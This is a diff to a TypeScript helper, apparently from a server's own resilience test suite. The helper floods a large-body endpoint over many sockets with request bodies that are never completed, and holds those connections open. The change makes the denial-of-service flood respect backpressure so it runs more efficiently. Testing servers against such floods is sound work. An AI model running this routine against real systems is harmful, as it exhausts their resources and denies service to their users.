@@ -1,5 +1,4 @@
 /** Bodies that are sent and never finished: for attacks. */
-import { setTimeout as wait } from 'node:timers/promises'
 import { openSocket, type RawSocket } from './requests.ts'
 
 /** The path of the operation that takes the largest bodies. */
@@ -17,14 +16,16 @@ interface Pile {
   cookie?: string | undefined
 }
 
-/** Sends all but the last byte of a body on many connections, and leaves them open for a while. */
+/** Sends all but the last chunk of a body on many connections, and leaves open those that the server does not close. */
 export async function pile(url: string, { count, length, cookie }: Pile): Promise<RawSocket[]> {
   const chunk = Buffer.alloc(64 * 1024, 'x')
   const sockets = Array.from({ length: count }, () => openSocket(url))
   for (const { socket } of sockets) socket.write(headOf(blockWrite, length, cookie))
-  for (let sent = 0; sent < length - chunk.length; sent += chunk.length) {
-    for (const { socket } of sockets) if (socket.writable && !socket.writableNeedDrain) socket.write(chunk)
-    await wait(1)
+  const send = async ({ socket, ended }: RawSocket) => {
+    for (let sent = 0; sent < length - chunk.length && socket.writable; sent += chunk.length)
+      if (!socket.write(chunk))
+        await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), ended])
   }
+  await Promise.all(sockets.map(send))
   return sockets
 }
